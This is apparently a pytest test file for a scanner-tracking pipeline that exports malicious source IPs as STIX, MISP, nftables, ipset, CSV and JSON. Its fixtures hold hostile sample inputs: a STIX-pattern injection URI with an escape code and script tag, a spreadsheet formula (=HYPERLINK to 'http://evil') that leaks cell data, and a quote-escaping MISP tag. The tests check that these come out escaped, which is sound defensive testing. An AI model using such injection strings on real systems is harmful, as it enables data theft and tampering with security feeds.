"""Exports: each format re-read by its own library (or `nft -c`), holding exactly the malicious,
non-allow-listed sources, with attacker text escaped and never inside a rule or pattern."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from datetime import date
from pathlib import Path

import duckdb
import pytest

from pipelines import export
from pipelines.cli import main
from pipelines.settings import Settings

DAY = date(2025, 11, 26)
HOSTILE_URI = "/x'] OR [ipv4-addr:value = '0.0.0.0/0'];\n\x1b[31m\"}<script>"
HOSTILE_UA = '=HYPERLINK("http://evil/?"&A1)'
# source -> (risk, malicious, research org); 203.0.113.66 is malicious but allow-listed.
SOURCES = {
    "203.0.113.5": (70.0, True, None),
    "2001:db8::bad": (80.0, True, None),
    "198.51.100.9": (70.0, True, "censys"),
    "203.0.113.66": (100.0, True, None),
    "192.0.2.1": (20.0, False, None),
}
EXPORTED = {"203.0.113.5", "2001:db8::bad", "198.51.100.9"}
BLOCKED = {"203.0.113.5", "2001:db8::bad"}  # research scanners left out of block lists by default


def _fill(con: duckdb.DuckDBPyConnection) -> None:
    con.execute(
        """CREATE TABLE source_risk (event_date DATE, src_ip VARCHAR, risk DOUBLE, malicious BOOLEAN,
           country_code VARCHAR, reasons VARCHAR[], probes BIGINT, first_seen TIMESTAMPTZ, last_seen TIMESTAMPTZ,
           research_org VARCHAR)"""
    )
    for ip, (risk, bad, org) in SOURCES.items():
        con.execute(
            "INSERT INTO source_risk VALUES ($d, $ip, $r, $m, 'SG', ['abroad: SG'], 12, $d::TIMESTAMPTZ + INTERVAL 1 HOUR,"
            " $d::TIMESTAMPTZ + INTERVAL 2 HOUR, $o)",
            {"d": DAY, "ip": ip, "r": risk, "m": bad, "o": org},
        )
    con.execute("CREATE TABLE events (event_date DATE, src_ip VARCHAR, uri VARCHAR, user_agent VARCHAR)")
    con.execute("INSERT INTO events VALUES ($d, '203.0.113.5', $u, $a)", {"d": DAY, "u": HOSTILE_URI, "a": HOSTILE_UA})
    con.execute("CREATE TABLE source_tags (event_date DATE, src_ip VARCHAR, tag VARCHAR, kind VARCHAR)")
    con.execute(
        "INSERT INTO source_tags VALUES ($d, '203.0.113.5', 'zmap', 'tool'), ($d, '203.0.113.5', 'fast-scan', 'behaviour')",
        {"d": DAY},
    )


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    allow = tmp_path / "allow.txt"
    allow.write_text("# our own scanner\n203.0.113.64/28  # the audit team\n2001:db8:1::/48\n", encoding="utf-8")
    return Settings().replace("site", allow=str(allow)).replace("paths", warehouse=str(tmp_path / "wh"))


@pytest.fixture
def rows(settings: Settings) -> list[dict]:
    con = duckdb.connect()
    _fill(con)
    return export.day_rows(con, DAY, settings)


def test_rows_are_the_malicious_sources_minus_the_allow_list(rows) -> None:
    assert {r["src_ip"] for r in rows} == EXPORTED
    assert next(r for r in rows if r["src_ip"] == "203.0.113.5")["tags"] == ["fast-scan", "zmap"]


def test_stix_bundle_parses_back_with_one_indicator_and_sighting_per_source(rows, settings) -> None:
    import stix2

    text = export.render("stix", rows, DAY, settings)
    bundle = stix2.parse(text, allow_custom=False)
    indicators = [o for o in bundle.objects if o.type == "indicator"]
    sightings = {o.sighting_of_ref: o for o in bundle.objects if o.type == "sighting"}
    assert [o.type for o in bundle.objects].count("identity") == 1
    patterns = {i.pattern for i in indicators}
    assert patterns == {
        "[ipv4-addr:value = '203.0.113.5']",
        "[ipv6-addr:value = '2001:db8::bad']",
        "[ipv4-addr:value = '198.51.100.9']",
    }
    for ind in indicators:
        assert ind.valid_from.date() == DAY and (ind.valid_until - ind.valid_from).days == settings.export.valid_days
        assert sightings[ind.id].count == 12
    # the attacker's URI survives exactly in a description and nowhere near a pattern
    assert any(HOSTILE_URI in (s.get("description") or "") for s in sightings.values())
    assert all("OR" not in p for p in patterns)
    assert export.render("stix", rows, DAY, settings) == text  # ids fixed by site, day, address: reruns identical


def test_misp_event_loads_back(rows, settings) -> None:
    from pymisp import MISPEvent

    event = MISPEvent()
    event.load(export.render("misp", rows, DAY, settings))
    attrs = {a.value: a for a in event.attributes}
    assert set(attrs) == EXPORTED and {a.type for a in attrs.values()} == {"ip-src"}
    assert HOSTILE_URI in attrs["203.0.113.5"].comment and HOSTILE_UA in attrs["203.0.113.5"].comment
    assert {t.name for t in attrs["203.0.113.5"].tags} == {'scansense:tag="zmap"', 'scansense:tag="fast-scan"'}
    assert {t.name for t in attrs["198.51.100.9"].tags} == {'scansense:research-org="censys"'}
    assert str(event.date) == DAY.isoformat()


def test_misp_tag_values_cannot_escape_their_quotes() -> None:
    from pipelines.export.misp import machine_tag

    assert machine_tag("research-org", 'evil" , "x') == 'scansense:research-org="evil-x"'


def _elements(text: str) -> set[str]:
    return set(re.findall(r"^\s+([0-9a-f.:]+),$", text, re.MULTILINE))


def test_nft_block_list_holds_only_blocked_addresses_and_passes_nft_check(rows, settings, tmp_path) -> None:
    text = export.render("nft", rows, DAY, settings)
    assert _elements(text) == BLOCKED and DAY.isoformat() in text.splitlines()[0]
    assert "\x1b" not in text and "HYPERLINK" not in text and "script" not in text
    with_research = export.render("nft", rows, DAY, settings, include_research=True)
    assert _elements(with_research) == EXPORTED
    empty = export.render("nft", [], DAY, settings)
    nft = shutil.which("nft")
    if nft is None:
        pytest.skip("nft (Debian package nftables) is not installed: the nft -c -f check did not run")
    for n, script in enumerate((text, with_research, empty)):
        path = tmp_path / f"b{n}.nft"
        path.write_text(script, encoding="utf-8")
        proc = subprocess.run([nft, "-c", "-f", str(path)], capture_output=True, text=True, timeout=60)
        assert proc.returncode == 0, proc.stderr


def test_ipset_restore_file_has_only_known_commands(rows, settings) -> None:
    text = export.render("ipset", rows, DAY, settings)
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    grammar = re.compile(
        r"(create scansense-v[46] hash:ip family inet6? maxelem \d+ -exist|flush scansense-v[46]|add scansense-v([46]) (\S+) -exist)"
    )
    added = set()
    for line in lines:
        m = grammar.fullmatch(line)
        assert m, line
        if m.group(2):
            assert (":" in m.group(3)) == (m.group(2) == "6")
            added.add(m.group(3))
    assert added == BLOCKED and DAY.isoformat() in text.splitlines()[0]


def _ipset_namespace() -> list[str]:
    """The command prefix that runs `ipset` in a new network namespace, or skip saying why it cannot.

    A namespace of its own keeps the host's sets untouched; `ipset restore` needs the kernel's
    netfilter (ip_set), which a container may not give.
    """
    ipset, unshare = shutil.which("ipset"), shutil.which("unshare")
    if ipset is None:
        pytest.skip("ipset (Debian package ipset) is not installed: the ipset restore check did not run")
    if unshare is None:
        pytest.skip("unshare (util-linux) is missing: no network namespace to run ipset restore in")
    prefix = [unshare, "--net", ipset]
    probe = subprocess.run(
        [*prefix, "restore"], input="create probe hash:ip family inet\n", capture_output=True, text=True, timeout=60
    )
    if probe.returncode != 0:
        pytest.skip(
            f"ipset restore cannot run here (a new network namespace with netfilter's ip_set): {probe.stderr.strip()}"
        )
    return [unshare, "--net", "sh", "-c"]


def test_ipset_file_loads_with_ipset_restore(rows, settings, tmp_path) -> None:
    """Each block list is restored twice (a daily reload) in a fresh network namespace, then saved back."""
    shell = _ipset_namespace()
    texts = {
        "default": (export.render("ipset", rows, DAY, settings), BLOCKED),
        "research": (export.render("ipset", rows, DAY, settings, include_research=True), EXPORTED),
        "empty": (export.render("ipset", [], DAY, settings), set()),
    }
    for name, (text, expected) in texts.items():
        path = tmp_path / f"{name}.ipset"
        path.write_text(text, encoding="utf-8")
        script = f"ipset restore -f {path} && ipset restore -f {path} && ipset save"
        proc = subprocess.run([*shell, script], capture_output=True, text=True, timeout=60)
        assert proc.returncode == 0, f"{name}: {proc.stderr}"
        members = re.findall(r"^add (scansense-v[46]) (\S+)$", proc.stdout, re.MULTILINE)
        assert {ip for _, ip in members} == expected, name
        assert all((":" in ip) == (s == "scansense-v6") for s, ip in members)
        assert re.findall(r"^create (scansense-v[46]) ", proc.stdout, re.MULTILINE) == ["scansense-v4", "scansense-v6"]
    # the check can fail: a v6 address in the v4 set is refused by ipset itself
    bad = tmp_path / "bad.ipset"
    bad.write_text(texts["default"][0].replace("add scansense-v6", "add scansense-v4"), encoding="utf-8")
    proc = subprocess.run([*shell, f"ipset restore -f {bad}"], capture_output=True, text=True, timeout=60)
    assert proc.returncode != 0 and "2001:db8::bad" in proc.stderr


def test_csv_and_json_round_trip_with_attacker_text_defused(rows, settings) -> None:
    table = list(csv.DictReader(io.StringIO(export.render("csv", rows, DAY, settings))))
    assert {r["src_ip"] for r in table} == EXPORTED
    hostile = next(r for r in table if r["src_ip"] == "203.0.113.5")
    assert hostile["sample_user_agent"] == "'" + HOSTILE_UA  # shown as text by spreadsheets, never run
    assert "\x1b" not in hostile["sample_uri"] and "\\x1b[31m" in hostile["sample_uri"]
    doc = json.loads(export.render("json", rows, DAY, settings))
    assert {s["src_ip"] for s in doc["sources"]} == EXPORTED and doc["date"] == DAY.isoformat()
    assert next(s for s in doc["sources"] if s["src_ip"] == "203.0.113.5")["sample_uri"] == HOSTILE_URI
    assert export.render("json", rows, DAY, settings).isascii()


def test_write_exports_replaces_the_day_folder(rows, settings) -> None:
    con = duckdb.connect()
    _fill(con)
    folder = export.write_exports(con, DAY, settings, list(export.FORMATS))
    assert folder == settings.warehouse / "exports" / DAY.isoformat()
    assert sorted(p.name for p in folder.iterdir()) == sorted(f.file for f in export.FORMATS.values())
    (folder / "stale.txt").write_text("old")
    (folder.parent / f".{DAY.isoformat()}.999999.tmp").mkdir()  # a killed run's leftover
    export.write_exports(con, DAY, settings, ["csv"])
    assert [p.name for p in folder.iterdir()] == ["sources.csv"]
    assert not [p for p in folder.parent.iterdir() if p.name.startswith(".")]


def test_cli_export_reads_the_published_warehouse(settings, tmp_path, capsys, monkeypatch) -> None:
    wh = settings.warehouse
    wh.mkdir(parents=True)
    with duckdb.connect(str(wh / "scansense.duckdb")) as con:
        _fill(con)
    config = tmp_path / "s.toml"
    config.write_text(f'[site]\nallow = "{settings.site.allow}"\n', encoding="utf-8")
    out = tmp_path / "out" / "bundle.json"
    base = ["--config", str(config), "export", "--date", DAY.isoformat(), "--warehouse", str(wh)]
    assert main([*base, "--format", "stix", "--out", str(out), "--json"]) == 0
    summary = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert summary == {"date": DAY.isoformat(), "format": "stix", "sources": 3, "out": str(out)}
    assert '"pattern": "[ipv4-addr:value = \'203.0.113.5\']"' in out.read_text()
    assert main([*base, "--format", "nft"]) == 0
    assert _elements(capsys.readouterr().out) == BLOCKED
    assert main([*base, "--format", "ipset", "--include-research"]) == 0
    assert "198.51.100.9" in capsys.readouterr().out
    assert main(["export", "--date", DAY.isoformat(), "--format", "csv", "--warehouse", str(tmp_path / "none")]) == 2
    assert main([*base[:4], "2025-01-01", *base[5:], "--format", "csv"]) == 2  # a day never run
    assert "not a day of the published warehouse" in capsys.readouterr().err
